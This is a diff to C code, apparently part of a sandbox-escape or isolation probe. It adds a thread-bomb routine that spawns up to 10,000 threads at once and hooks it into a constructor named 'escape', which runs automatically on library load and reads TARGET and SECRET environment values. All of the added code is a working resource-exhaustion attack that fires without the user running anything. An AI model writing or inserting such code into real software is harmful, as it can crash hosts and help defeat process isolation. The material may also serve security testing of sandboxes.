@@ -34,6 +34,28 @@ static void *in_thread(void *unused) {
   return NULL;
 }
 
+static pthread_mutex_t gate = PTHREAD_MUTEX_INITIALIZER;
+
+static void *waits(void *unused) {
+  pthread_mutex_lock(&gate);
+  pthread_mutex_unlock(&gate);
+  return unused;
+}
+
+// As many threads as the kernel gives, all at once.
+static void thread_bomb(void) {
+  static pthread_t threads[10000];
+  int made = 0;
+  pthread_attr_t small;
+  pthread_attr_init(&small);
+  pthread_attr_setstacksize(&small, 16384);
+  pthread_mutex_lock(&gate);
+  while (made < 10000 && pthread_create(&threads[made], &small, waits, NULL) == 0) made++;
+  pthread_mutex_unlock(&gate);
+  for (int n = 0; n < made; n++) pthread_join(threads[n], NULL);
+  dprintf(2, "threads=%d\n", made);
+}
+
 __attribute__((constructor)) static void escape(void) {
   if (!getenv("TARGET") || !getenv("SECRET")) return;
   long target = atol(getenv("TARGET")), own = getpid();
@@ -178,5 +200,6 @@ __attribute__((constructor)) static void escape(void) {
     dprintf(2, "task-user=%ld\n", line ? atol(line + 6) : -1);
     close(file);
   }
+  thread_bomb();
   dprintf(2, "tried\n");
 }
